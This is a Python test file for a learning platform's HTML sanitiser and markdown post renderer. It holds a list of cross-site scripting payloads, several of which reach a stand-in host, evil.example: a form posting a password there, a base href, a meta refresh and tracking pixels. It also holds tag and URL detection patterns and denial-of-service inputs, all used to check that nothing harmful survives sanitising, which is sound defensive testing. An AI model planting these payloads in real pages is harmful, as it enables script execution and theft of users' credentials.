"""Whatever is written, what reaches a page runs nothing, loads nothing from elsewhere and takes no name of the page."""

from __future__ import annotations

import re
import time

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bwa_lms.content.markdown.posts import LENGTH, render_post
from bwa_lms.content.sanitise import clean
from bwa_lms.kernel.errors import Refused
from tests.content.markdown.cast import html

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<img src=//evil.example/pixel.gif>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img srcset='//evil.example/pixel.gif 2x' src=/media/a.png>",
    "<video poster='//evil.example/x'><source src=//evil.example/y></video>",
    "<audio src='https://evil.example/x'>",
    "<b id=main>x</b><b id=csrf>x</b><b id=__proto__>x</b>",
    "<b name=document class='button errors'>x</b>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<div><a href=/x target=_blank ping=//evil.example>y</a></div>",
]
CODE = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "base",
    "meta",
    "link",
    "svg",
    "math",
    "template",
}
REACHING = ("style", "srcset", "poster", "ping", "formaction", "name")
SCRIPT = re.compile(r"\s*(?:javascript|data|vbscript):", re.IGNORECASE)
FOREIGN = re.compile(r"\s*(?:[a-z][a-z0-9+.-]*:|//)", re.IGNORECASE)


def acting(page: str) -> list[str]:
    """Read the page as a browser would, with scripts and without, and return what could act in it."""
    return [each for scripts in (True, False) for each in _acting(page, scripts)]


def _acting(page: str, scripts: bool) -> list[str]:
    tree = html5lib.parseFragment(page, "div", "etree", False, scripting=scripts)
    tags = [str(element.tag).rpartition("}")[2] for element in tree.iter()]  # {namespace}svg
    attributes = [each for element in tree.iter() for each in element.attrib.items()]
    return [tag for tag in tags if tag in CODE] + [
        f"{name}={value}" for name, value in attributes if _acts(name, value)
    ]


def _acts(name: str, value: str) -> bool:
    if name == "href":
        return bool(SCRIPT.match(value))
    if name == "src":
        return bool(FOREIGN.match(value))
    if name == "id":
        return value in ("main", "csrf", "__proto__")
    return name.lower().startswith("on") or name in REACHING


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_would_act(payload: str):
    assert acting(payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_acts_in_a_page(payload: str):
    assert not acting(clean(payload))
    assert not acting(html(payload))
    assert not acting(html(f"word {payload} word"))
    assert not acting(render_post(payload))


@pytest.mark.parametrize(
    "kept",
    [
        '<p class="admonition-title">x</p>',
        '<a class="term" href="#term-a">x</a>',
        '<a href="/courses/c/a#b">x</a>',
        '<h2 id="who-owns-it">x</h2>',
        '<div aria-label="a" class="table" role="region" tabindex="0">x</div>',
        '<ol start="3"><li>x</li></ol>',
        '<li id="fn:1">x</li>',
    ],
)
def test_what_our_pages_are_made_of_stays(kept: str):
    assert clean(kept) == kept


@given(st.text("<>/=\"' abimgsrcon:\n&;#!-", max_size=80))
def test_no_soup_acts_in_a_page(soup: str):
    assert not acting(clean(soup))


@given(st.text("[]()!*_`<>&#\\ \n-1.ab:/", max_size=300))
def test_a_post_is_rendered_or_refused(text: str):
    assert not acting(render_post(text))


def test_posts_know_a_little_markdown():
    page = render_post(
        "**Hello**\nagain\n\n- one\n- two\n\n> quoted\n\n[there](https://example.org) <b>raw</b>"
    )
    for part in ("<strong>Hello</strong><br>", "<li>one</li>", "<blockquote>", "&lt;b&gt;raw"):
        assert part in page
    assert 'rel="nofollow noopener noreferrer ugc"' in page


def test_a_post_shows_no_pictures():
    assert "<img" not in render_post("![x](/media/a.png) ![y][z]\n\n[z]: /media/b.png")


@pytest.mark.parametrize(
    "text",
    [
        "[" * 5_000,
        "![" * 2_500,
        "> " * 3_000,
        "x" * (LENGTH + 1),
        "<" * 9_000,
        "- " * 3_000,
        "`a" * 3_000,
    ],
)
def test_a_hostile_post_is_refused_in_time(text: str):
    started = time.process_time()
    with pytest.raises(Refused):
        render_post(text)
    assert time.process_time() - started < 1


@pytest.mark.parametrize(
    "unit",
    [
        "[a](",
        "[a][",
        "![",
        "*a **b ",
        "_a __b ",
        "`a``",
        "<a ",
        "&amp",
        "> - ",
        "1. a\n",
        "\\",
        "a\n\n",
    ],
)
def test_the_worst_that_passes_is_quick(unit: str):
    text = (unit * 10_000)[:LENGTH]
    for size in (LENGTH, 4_000, 1_000, 400, 140):
        started = time.process_time()
        try:
            render_post(text[:size])
        except Refused:
            continue
        assert time.process_time() - started < 2
